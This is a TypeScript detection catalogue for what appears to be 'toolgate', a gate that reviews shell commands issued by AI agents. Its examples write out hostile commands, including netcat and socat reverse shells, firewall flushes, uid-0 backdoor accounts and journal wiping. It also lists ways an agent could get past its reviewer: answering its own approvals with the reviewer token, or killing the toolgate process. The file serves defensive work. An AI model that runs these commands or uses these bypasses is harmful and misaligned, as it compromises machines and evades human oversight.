// Danger catalogue, the machine: privilege, processes, services, firewall, power, scheduled jobs, users.
import type { DangerEntry } from './danger-entry.ts';
import type { CommandView } from '../shell/view.ts';
import { hasFlag, operands, optionValue } from './flags.ts';
import { importsToolgate, toolgateArgs, reviewerShapedArgs } from './toolgate-code.ts';

export const PRIVILEGE: ReadonlySet<string> = new Set(['sudo', 'doas', 'pkexec', 'run0', 'su', 'sudoedit', 'sg', 'newgrp']);
const KILL_SIGNALS = /^(-?(9|KILL|SIGKILL))$/i;
/** systemctl / service verbs that only read state. */
const SERVICE_READS = new Set(['status', 'show', 'list-units', 'list-unit-files', 'list-timers', 'list-sockets', 'list-dependencies', 'is-active', 'is-enabled', 'is-failed', 'cat', 'help', '--version', 'list']);

/** kill's signal and pid operands, whatever the spelling (-9, -KILL, -s 9, -n 9, --signal KILL). */
function killParse(args: string[]): { signal: string; targets: string[] } {
  let signal = 'TERM';
  const targets: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (a === '--') { targets.push(...args.slice(i + 1)); break; }
    if (a === '-s' || a === '-n' || a === '--signal') { signal = args[++i] ?? signal; continue; }
    if (a === '-l' || a === '-L' || a === '--list') return { signal: 'none', targets: [] };
    if (/^-[A-Za-z0-9]+$/.test(a) && !/^-\d+$/.test(a) ) { signal = a.slice(1); continue; }
    if (/^-\d+$/.test(a) && targets.length === 0 && i === 0) { signal = a.slice(1); continue; }
    targets.push(a);
  }
  return { signal: signal.replace(/^SIG/i, '').toUpperCase(), targets };
}

const isKill = (v: CommandView): boolean => v.program === 'kill';

/** `killall5` signals every process but the caller's session (SIGTERM unless told otherwise); `-0` only tests. */
const killall5SignalsAll = (v: CommandView): boolean => v.program === 'killall5' && !v.args.includes('-0');

/** `pkill -0 node`, `killall -s 0 x`, `--signal=0`: signal 0 only tests that the process exists (pkill's `-s` is a session). */
function onlyProbesProcess(v: CommandView): boolean {
  const signal = optionValue(v.args, v.program === 'killall' ? ['-s', '--signal'] : ['--signal']);
  return v.args.includes('-0') || signal?.replace(/^SIG/i, '') === '0';
}

/** Options of journalctl that change the journal (vacuum, rotate, flush) rather than read it. */
const JOURNAL_CHANGES = /^--(vacuum-(size|time|files)|rotate|flush|sync|relinquish-var|smart-relinquish-var|setup-keys|update-catalog)(=|$)/;
/** Log files, read by their path: nothing else under sudo is quiet (`sudo cat /etc/…` stays asked). */
const LOG_PATH = /^\/var\/log(\/|$)/;
/**
 * Read-only log and status readers, and what makes one of them read only: run with sudo to see what only root may
 * (the journal of a system service, the kernel ring buffer, /var/log), they change nothing — a reviewer would not want
 * to be asked (issue 26). A write redirection, or any other program, keeps the privilege finding.
 */
const PRIVILEGED_READERS = new Map<string, (args: string[]) => boolean>([
  ['journalctl', (args) => !args.some((a) => JOURNAL_CHANGES.test(a))],
  ['dmesg', (args) => !args.some((a) => /^-[a-zA-Z]*[cCDEn]|^--(clear|read-clear|console-(on|off|level))/.test(a))],
  ['systemctl', (args) => SERVICE_READS.has(operands(args)[0] ?? '')],
  // Sockets and open files of every process, a container's logs, nginx's configuration test: reading only.
  ['ss', () => true],
  ['netstat', () => true],
  ['lsof', (args) => !args.some((a) => /^-[a-zA-Z]*k/.test(a))],
  ...['docker', 'podman'].map((p) => [p, (args: string[]) => /^(logs|ps)$/.test(operands(args)[0] ?? '')] as const),
  ['nginx', (args) => args.length === 1 && args[0] === '-t'],
  // (Not less or more: their `!command` is a root shell.)
  ...['cat', 'tail', 'head', 'zcat', 'grep', 'zgrep', 'wc', 'ls', 'du'].map((p) => [p, (args: string[]) => {
    const paths = operands(args).filter((a) => a.includes('/'));
    return paths.length > 0 && paths.every((a) => LOG_PATH.test(a) && !/(^|\/)\.\.(\/|$)/.test(a));
  }] as const),
]);

/** `sudo journalctl -u nginx`, `sudo dmesg -T`, `sudo tail -f /var/log/syslog`, `sudo systemctl status x`, `sudo ss -tlnp`: reading only. */
function readsLogsOnly(v: CommandView): boolean {
  if (v.redirects.some((r) => r.write && r.target !== undefined && !/^\/dev\/(null|stdout|stderr)$/.test(r.target.value))) return false;
  return PRIVILEGED_READERS.get(v.program)?.(v.args) ?? false;
}

/** Listing the firewall only reads it (`iptables -L`, `ufw status`, `nft list ruleset`, `firewall-cmd --list-all`). */
function firewallReadOnly(v: CommandView): boolean {
  const { program, args } = v;
  if (program === 'ufw') return args[0] === 'status' || args[0] === 'show' || args[0] === 'version';
  if (program === 'nft') return args.filter((a) => !a.startsWith('-'))[0] === 'list';
  if (program === 'firewall-cmd') return args.length > 0 && args.every((a) => /^--(list|get|query|state|zone=)/.test(a) || !a.startsWith('-'));
  if (program === 'ipfw') return /^(list|show|l|s)$/.test(args.filter((a) => !a.startsWith('-'))[0] ?? '');
  // macOS's application firewall: `--getglobalstate`, `--listapps`, … only read.
  if (program === 'socketfilterfw') return args.length > 0 && args.every((a) => /^--(get|list)/.test(a) || !a.startsWith('-'));
  if (/^(ip6?tables|iptables-legacy)$/.test(program)) {
    const lists = args.some((a) => /^-[a-zA-Z]*[LS][a-zA-Z]*$|^--list(-rules)?$|^-C$|^--check$/.test(a));
    const mutates = args.some((a) => /^-[ADIRFPXNZE]$|^--(append|delete|insert|replace|flush|policy|delete-chain|new-chain|zero|rename-chain)$/.test(a));
    return lists && !mutates;
  }
  return false;
}

/**
 * toolgate's own reviewer commands — answering approvals, changing rules, the interactive review — run from the
 * command line an agent is being judged on: the CLI finds the reviewer token in the data directory (or the
 * environment), so the agent would answer its own questions. `node …/toolgate.js`, `node …/dist/cli/main.js` and a
 * copy of the bin under another name are the same program, and inline code importing toolgate's modules runs them
 * too (toolgate-code.ts). Reading commands (`check`, `audit`, `rules list`, `approvals list`) are not.
 */
function runsToolgateAsReviewer(v: CommandView): boolean {
  if (importsToolgate(v)) return true;
  const args = toolgateArgs(v);
  if (args === undefined) return reviewerShapedArgs(v.args);
  if (args.includes('--help') || args.includes('-h')) return false;
  // Options may come before the subcommand with a value of their own (`rules --data-dir d add …`): any word counts.
  const words = args.filter((a) => !a.startsWith('-'));
  const command = words[0];
  return command === 'review' || (command === 'approvals' && words.includes('resolve')) || (command === 'rules' && words.some((w) => /^(add|rm|remove|import)$/.test(w)));
}

/** Programs that stop, kill or remove a process, a service or a container. */
const STOPPERS = new Set(['kill', 'pkill', 'killall', 'fuser', 'systemctl', 'service', 'launchctl', 'docker', 'podman', 'pm2', 'supervisorctl']);
/** The verbs of the service and container managers among STOPPERS that stop what they name. */
const STOP_VERBS = /^(stop|kill|disable|mask|rm|remove|delete|unload|bootout|restart|down)$/;

/**
 * A command that stops toolgate itself (`pkill -f toolgate`, `kill $(pgrep -f toolgate)`, `systemctl --user stop
 * toolgate`, `docker stop toolgate`): an HTTP hook whose sidecar does not answer lets the agent's call run.
 */
function stopsToolgate(v: CommandView): boolean {
  if (!STOPPERS.has(v.program) || !/toolgate/i.test(v.text)) return false;
  if (v.program === 'kill' || v.program === 'pkill' || v.program === 'killall' || v.program === 'fuser') return true;
  return v.args.some((a) => STOP_VERBS.test(a));
}

/** A command that expands the reviewer token toolgate's CLI and API accept (`$TOOLGATE_REVIEWER_TOKEN`). */
const usesReviewerToken = (v: CommandView): boolean => v.text.includes('TOOLGATE_REVIEWER_TOKEN');

/**
 * `mount`, `timedatectl`, `hostnamectl` with nothing to change print the current settings; `update-alternatives
 * --list|--display|--query`, `passwd -S` and `swapon --show` only read.
 */
function onlyShowsSettings(v: CommandView): boolean {
  const ops = v.args.filter((a) => !a.startsWith('-'));
  switch (v.program) {
    // `mount`, `mount -l`, `mount -t ext4`: lists what is mounted (a type given to -t is not a device).
    case 'mount': return v.args.every((a, i) => /^(-l|-t|--types|-v|--verbose|--show-labels)$/.test(a) || /^(-t|--types)$/.test(v.args[i - 1] ?? ''));
    case 'timedatectl': case 'hostnamectl': return ops.length === 0 || /^(status|show|list-timezones|timesync-status|show-timesync)$/.test(ops[0]!);
    case 'update-alternatives': return v.args.some((a) => /^--(list|display|query|get-selections)$/.test(a));
    case 'passwd': return v.args.some((a) => a === '-S' || a === '--status');
    case 'swapon': return v.args.some((a) => a === '--show' || a === '-s' || a === '--summary');
    default: return false;
  }
}

/** `dscl . -create /Users/toor UniqueID 0` (also `-append`, `-change … UniqueID 501 0`): macOS's way to give an account uid 0. */
function dsclGivesUidZero(v: CommandView): boolean {
  if (v.program !== 'dscl' || !v.args.some((a) => /^-(create|append|merge|change)$/.test(a))) return false;
  const key = v.args.findIndex((a) => /^UniqueID$/i.test(a));
  return key >= 0 && key < v.args.length - 1 && /^0+$/.test(v.args.at(-1)!);
}

/** AppleScript asking System Events, Finder or loginwindow to restart, shut down or log out (also as raw `«event aevtrrst»` codes). */
function applescriptLeavesSession(args: string[]): boolean {
  const script = args.join(' ');
  return /"(System Events|Finder|loginwindow)"/i.test(script) && /\b(restart|shut\s*down|log\s*out|aevt(rrst|rsdn|rlgo))\b/i.test(script);
}

export const SYSTEM_DANGERS: DangerEntry[] = [
  {
    id: 'toolgate-reviewer', risk: 'high', reason: "acts as toolgate's reviewer (answers approvals, changes rules, uses the reviewer token): an agent must not approve its own calls",
    examples: ['npx toolgate approvals resolve 0192a --choice allow_always', 'toolgate rules add allow "bash(*)"', 'node bin/toolgate.js review', 'curl -H "Authorization: Bearer $TOOLGATE_REVIEWER_TOKEN" -X POST http://127.0.0.1:7411/v1/approvals/x/resolve -d \'{"choice":"allow_once"}\'',
      // Its code under other names and ways in (toolgate-code.ts).
      'node ./node_modules/toolgate/dist/cli/main.js approvals resolve 01 --choice allow_once', 'node /tmp/tg.js approvals resolve 01 --choice allow_once',
      'node --input-type=module -e "import(\'/opt/toolgate/dist/cli/main.js\').then((m) => m.main([\'approvals\', \'resolve\', \'01\', \'--choice\', \'allow_once\']))"',
      'node -e "require(\'toolgate/dist/cli/approvals.js\')"'],
    match: (v) => runsToolgateAsReviewer(v) || usesReviewerToken(v),
  },
  {
    id: 'toolgate-stop', risk: 'high', reason: "stops toolgate itself (kills its process, stops its service or container): the agent's next calls may go unchecked",
    programs: [...STOPPERS],
    examples: ['pkill -f toolgate', 'kill $(pgrep -f "toolgate serve")', 'systemctl --user stop toolgate', 'docker rm -f toolgate'],
    match: stopsToolgate,
  },
  {
    id: 'privilege', risk: 'medium', reason: 'runs with root (or another user\'s) privileges',
    examples: ['sudo apt-get install -y jq', 'doas sh', 'pkexec bash', 'su -', 'sudo -i'],
    match: (v) => PRIVILEGE.has(v.program) || (v.wrappers.some((w) => PRIVILEGE.has(w)) && !readsLogsOnly(v)),
  },
  {
    id: 'kill-everything', risk: 'high', reason: 'signals every process (kill -1, killall5) or init (pid 1)',
    programs: ['kill', 'killall5'], hostOnly: true,
    examples: ['kill -9 -1', '/bin/kill -TERM -- -1', 'kill -- -1', 'kill -9 1', 'killall5 -9', 'killall5 -15'],
    match: (v) => (isKill(v) && killParse(v.args).signal !== '0' && killParse(v.args).targets.some((t) => t === '-1' || t === '1')) || killall5SignalsAll(v),
  },
  {
    id: 'kill-force', risk: 'medium', reason: 'kill -9: the process cannot clean up',
    programs: ['kill'],
    examples: ['kill -9 4242', 'kill -s 9 4242', 'kill -KILL 12', 'kill -SIGKILL 12', 'kill --signal KILL 3'],
    match: (v) => isKill(v) && KILL_SIGNALS.test(killParse(v.args).signal),
  },
  {
    id: 'kill-by-name', risk: 'medium', reason: 'kills processes by name (pkill, killall) or by what they hold open (fuser -k)',
    programs: ['pkill', 'killall', 'xkill', 'skill', 'slay', 'fuser'],
    examples: ['pkill node', 'killall -9 java', 'xkill', 'fuser -k 80/tcp'],
    match: (v) => (/^(pkill|killall|xkill|skill|slay)$/.test(v.program) && !onlyProbesProcess(v)) || (v.program === 'fuser' && v.args.some((a) => /^-[a-zA-Z]*k/.test(a) || a === '--kill')),
  },
  {
    id: 'firewall', risk: 'medium', reason: "changes (or reads with privilege) the firewall (iptables, nft, ufw, pf, ipfw, macOS's application firewall)",
    examples: ['iptables -F', 'ip6tables -F', 'nft flush ruleset', 'ufw disable', 'firewall-cmd --reload', 'pfctl -d', 'ipfw -f flush', '/usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off'],
    programs: ['iptables', 'ip6tables', 'iptables-restore', 'ip6tables-restore', 'iptables-legacy', 'nft', 'ufw', 'firewall-cmd', 'pfctl', 'ebtables', 'arptables', 'ipfw', 'socketfilterfw'],
    match: (v) => !firewallReadOnly(v),
  },
  {
    id: 'macos-protection-off', risk: 'medium', reason: 'turns off a macOS protection (System Integrity Protection, Gatekeeper): tampered or unsigned code then runs unchecked',
    programs: ['csrutil', 'spctl'],
    examples: ['csrutil disable', 'spctl --master-disable', 'spctl --global-disable'],
    match: (v) => (v.program === 'csrutil' && v.args.includes('disable')) || (v.program === 'spctl' && v.args.some((a) => /^--(master-disable|global-disable|disable)$/.test(a))),
  },
  {
    id: 'power-state', risk: 'high', reason: 'reboots, halts or powers off the machine (or logs its user out)',
    programs: ['reboot', 'shutdown', 'halt', 'poweroff', 'kexec', 'init', 'telinit', 'systemctl', 'osascript'],
    examples: ['reboot', 'shutdown -h now', 'poweroff', 'systemctl reboot', 'init 0', 'halt', 'osascript -e \'tell app "System Events" to restart\'', 'osascript -e \'tell app "System Events" to log out\''],
    match: (v) => /^(reboot|shutdown|halt|poweroff|kexec)$/.test(v.program)
      || ((v.program === 'init' || v.program === 'telinit') && /^[06]$/.test(v.args[0] ?? ''))
      || (v.program === 'systemctl' && v.args.some((a) => /^(reboot|poweroff|halt|kexec|emergency|rescue|suspend|hibernate)$/.test(a)))
      || (v.program === 'osascript' && applescriptLeavesSession(v.args)),
  },
  {
    id: 'service-control', risk: 'medium', reason: 'starts, stops or reconfigures a system service',
    programs: ['systemctl', 'service', 'rc-service', 'rc-update', 'launchctl', 'initctl', 'sv', 'supervisorctl', 'update-rc.d', 'chkconfig'],
    examples: ['systemctl restart nginx', 'service sshd stop', 'rc-service nginx stop', 'launchctl unload x.plist', 'supervisorctl stop all'],
    match: (v) => {
      if (!/^(systemctl|service|rc-service|rc-update|launchctl|initctl|sv|supervisorctl|update-rc\.d|chkconfig)$/.test(v.program)) return false;
      if (v.args.includes('--status-all')) return false;
      const ops = operands(v.args, ['-H', '--host', '-M', '--machine', '-t', '--type', '-p', '--property']);
      if (ops.length === 0) return v.program !== 'systemctl' && v.program !== 'launchctl';
      return !ops.some((o) => SERVICE_READS.has(o));
    },
  },
  {
    // A SysV init script run by its path (`/etc/init.d/nginx stop`): what `service nginx stop` runs.
    id: 'init-script-control', risk: 'medium', reason: 'starts, stops or reconfigures a system service',
    examples: ['/etc/init.d/nginx stop', 'sudo /etc/rc.d/init.d/sshd restart'],
    match: (v) => /^\/etc\/(init\.d|rc\.d(\/init\.d)?)\/[^/]+$/.test(v.argv[0] ?? '') && v.args.length > 0 && !SERVICE_READS.has(v.args[0]!),
  },
  {
    id: 'crontab-remove', risk: 'high', reason: 'crontab -r removes every scheduled job without asking',
    programs: ['crontab'],
    examples: ['crontab -r', 'crontab -u www -r'],
    match: (v) => v.program === 'crontab' && v.args.some((a) => /^-[a-z]*r/.test(a) && a !== '--'),
  },
  {
    id: 'crontab-replace', risk: 'medium', reason: 'installs a crontab (scheduled commands that persist)',
    programs: ['crontab'],
    examples: ['crontab jobs.txt', 'echo "* * * * * x" | crontab -', 'crontab -e'],
    match: (v) => v.program === 'crontab' && !v.args.includes('-l') && !v.args.some((a) => /^-[a-z]*r/.test(a)),
  },
  {
    id: 'schedule-later', risk: 'medium', reason: 'schedules commands to run later, when no one is watching (at, batch)',
    programs: ['at', 'batch'],
    examples: ['at now + 5 minutes -f job.sh', "echo 'make deploy' | at midnight", 'batch < jobs.txt'],
    match: (v) => (v.program === 'at' || v.program === 'batch') && !v.args.some((a) => /^-[a-zA-Z]*[lrdc]$/.test(a) || a === '--list'),
  },
  {
    // `useradd -o -u 0 x`, `usermod -u 0 x`: a second root account (uid 0) under another name.
    id: 'root-account', risk: 'high', reason: 'gives an account user id 0 (useradd/usermod -u 0, dscl … UniqueID 0): another root login',
    programs: ['useradd', 'usermod', 'adduser', 'dscl'],
    examples: ['useradd -o -u 0 evil', 'usermod -u 0 -o bob', 'useradd --uid 0 --non-unique x', 'dscl . -create /Users/toor UniqueID 0'],
    match: (v) => dsclGivesUidZero(v)
      || (v.program !== 'dscl' && v.args.some((a, i) => ((a === '-u' || a === '--uid') && /^0+$/.test(v.args[i + 1] ?? '')) || /^--uid=0+$/.test(a))),
  },
  {
    id: 'user-remove-home', risk: 'high', reason: "deletes a user together with their home directory and mail (userdel -r, deluser --remove-home): the user's files are gone",
    programs: ['userdel', 'deluser'],
    examples: ['userdel -r bob', 'userdel --remove bob', 'deluser --remove-home bob', 'deluser --remove-all-files bob'],
    match: (v) => (v.program === 'userdel' && hasFlag(v.args, 'r', ['--remove'])) || (v.program === 'deluser' && v.args.some((a) => /^--remove-(home|all-files)$/.test(a))),
  },
  {
    id: 'account-no-password', risk: 'high', reason: "removes an account's password (passwd -d, usermod -p ''): anyone may then log in as that user without one",
    programs: ['passwd', 'usermod'],
    examples: ['passwd -d root', 'passwd --delete bob', "usermod -p '' bob"],
    match: (v) => (v.program === 'passwd' && hasFlag(v.args, 'd', ['--delete'])) || (v.program === 'usermod' && optionValue(v.args, ['-p', '--password']) === ''),
  },
  {
    id: 'journal-wipe', risk: 'high', reason: "deletes the system journal's archived files (journalctl --vacuum-time/-size/-files): the record of what ran on the machine goes with them",
    programs: ['journalctl'],
    examples: ['journalctl --vacuum-time=1s', 'journalctl --vacuum-size=1K', 'journalctl --vacuum-files=1'],
    match: (v) => v.args.some((a) => /^--vacuum-(time|size|files)(=|$)/.test(a)),
  },
  {
    id: 'login-hook', risk: 'high', reason: 'installs a macOS login or logout hook (defaults write com.apple.loginwindow LoginHook): the script runs as root at every login',
    programs: ['defaults'],
    examples: ['defaults write com.apple.loginwindow LoginHook /tmp/hook.sh', 'sudo defaults write com.apple.loginwindow LogoutHook /tmp/hook.sh'],
    match: (v) => v.args[0] === 'write' && v.args.some((a) => /loginwindow/.test(a)) && v.args.some((a) => /^Log(in|out)Hook$/i.test(a)),
  },
  {
    id: 'system-admin', risk: 'medium', reason: 'changes users, kernel modules, mounts or kernel parameters',
    examples: ['useradd bob', 'passwd root', 'modprobe evil', 'mount /dev/sdb1 /mnt', 'sysctl -w net.ipv4.ip_forward=1', 'visudo', 'swapoff -a'],
    match: (v) => (/^(useradd|userdel|usermod|adduser|deluser|groupadd|groupdel|passwd|chpasswd|chsh|visudo|modprobe|insmod|rmmod|mount|umount|swapoff|swapon|setenforce|chattr|hostnamectl|timedatectl|update-alternatives)$/.test(v.program) && !onlyShowsSettings(v))
      || (v.program === 'sysctl' && v.args.some((a) => a === '-w' || a.includes('=') || a === '-p')),
  },
  {
    id: 'reverse-shell', risk: 'high', reason: 'connects a shell to the network (nc -e, socat exec:)',
    programs: ['nc', 'ncat', 'netcat', 'socat'],
    examples: ['nc -e /bin/sh 203.0.113.1 4444', 'ncat --exec /bin/bash 10.0.0.1 9', 'socat tcp:10.0.0.1:9 exec:/bin/sh'],
    match: (v) => (/^(nc|ncat|netcat)$/.test(v.program) && (optionValue(v.args, ['-e', '-c', '--exec', '--sh-exec', '--lua-exec']) !== undefined))
      || (v.program === 'socat' && v.args.some((a) => /^(exec|system):/i.test(a))),
  },
];
